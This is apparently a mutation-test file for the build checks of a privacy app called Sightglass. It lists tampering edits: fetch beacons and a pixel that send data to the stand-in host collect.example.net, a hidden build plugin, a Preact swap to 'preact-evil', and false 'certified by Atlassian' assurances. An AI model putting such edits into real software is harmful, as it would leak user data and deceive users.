/** Edits by which a build adds, omits or replaces something. */
import type { Mutation } from '../../mutation';
import { edit } from './numbered';

const CONFIG = 'static/privacy/vite.config.mjs';
const HTML = 'static/privacy/index.html';

const MORE = [
  {
    file: 'static/more/build/index.html',
    write: '<!doctype html><title>More</title><script src="x.js"></script>',
  },
  {
    file: 'static/more/build/x.js',
    write: "fetch('https://collect.example.net/?' + document.title);",
  },
] as const;

export const buildEdits: readonly Mutation[] = [
  edit('43', 'builds', 'code beside the texts, by what packs them', {
    file: 'static/privacy/text/packed-texts.mjs',
    from: 'let last = [];',
    to: "void globalThis.fetch('https:/' + '/collect.example.net/?' + document.title);\nlet last = [];",
  }),
  edit(
    '44',
    'builds',
    'a third plugin, behind the name of one of the two',
    {
      file: CONFIG,
      from: 'import { designTokens }',
      to: 'import { designTokens as tokens }',
    },
    {
      file: CONFIG,
      from: 'const here = import.meta.dirname;\n',
      to: "const here = import.meta.dirname;\n\nconst designTokens = (folder) => [\n  tokens(folder),\n  new (class {\n    name = 'more';\n    transform(code, id) {\n      return id.endsWith('main.tsx') ? `${code}\\nvoid fetch('https:/' + '/collect.example.net')` : null;\n    }\n  })(),\n];\n",
    },
  ),
  edit('45', 'builds', 'define, by a getter', {
    file: CONFIG,
    from: '  publicDir: false,',
    to: '  publicDir: false,\n  get define() {\n    return JSON.parse(\'{"Math.max":"Math.min"}\');\n  },',
  }),
  edit('46', ['builds', 'style-sheets'], 'a PostCSS plugin beside the build', {
    file: 'postcss.config.mjs',
    write:
      "export default { plugins: [{ postcssPlugin: 'more', Once(root) { root.append('p { color: red }'); } }] };",
  }),
  edit('47', 'documents', 'a picture from elsewhere inside noscript', {
    file: HTML,
    from: '<noscript>',
    to: '<noscript><img src="https://collect.example.net/pixel.png" alt="" />',
  }),
  edit('48', 'documents', 'a page that says something untrue while it loads', {
    file: HTML,
    from: 'Sightglass has not loaded yet. If nothing changes, reload this page.',
    to: 'Sightglass has never stored anything about this site. Atlassian certifies this.',
  }),
  edit('49', 'seal', 'a script written into the built page', {
    file: 'tools/build.mjs',
    from: "logLevel: 'warn' });\n}",
    to: "logLevel: 'warn' });\n  const { appendFileSync, readdirSync } = await import('node:fs');\n  const assets = `${root}static/privacy/build/assets/`;\n  for (const name of readdirSync(assets))\n    if (name.endsWith('.js')) appendFileSync(assets + name, ';void fetch(\"https://collect.example.net\");');\n}",
  }),
  edit('51', 'seal', 'another package in the place of Preact', {
    file: 'package.json',
    from: '"overrides": {',
    to: '"overrides": {\n    "preact": "npm:preact-evil@11.2.0",',
  }),
  edit('69', 'shipped-files', 'a nested package.json that swaps one file for another', {
    file: 'static/privacy/package.json',
    write: '{ "browser": { "./copy-text.ts": "./browser-commands.ts" } }',
  }),
  edit('82', 'manifest-shape', 'a file of texts that is the package.json', {
    file: 'manifest.yml',
    from: 'static/privacy/locales/fr-FR/opening.json',
    to: 'package.json',
  }),
  edit(
    '83',
    ['manifest-shape', 'shipped-files'],
    'a second page in a folder of its own, with any script',
    {
      file: 'manifest.yml',
      from: '      useAsGetStarted: true\n',
      to: '      useAsGetStarted: true\n    - key: more\n      resource: more\n      resolver:\n        function: admin-page\n      title: More\n',
    },
    {
      file: 'manifest.yml',
      from: '    path: static/privacy/build\n',
      to: '    path: static/privacy/build\n  - key: more\n    path: static/more/build\n',
    },
    ...MORE,
  ),
  edit(
    '84',
    ['manifest-shape', 'shipped-files'],
    'the one resource built from another folder',
    { file: 'manifest.yml', from: 'static/privacy/build', to: 'static/more/build' },
    ...MORE,
  ),
  edit('100', 'style-sheets', 'a style sheet that speaks', {
    file: 'static/privacy/styles/message.css',
    add: '\n.message-success::after {\n  content: "Certified by Atlassian. Nothing was ever stored.";\n}\n',
  }),
];
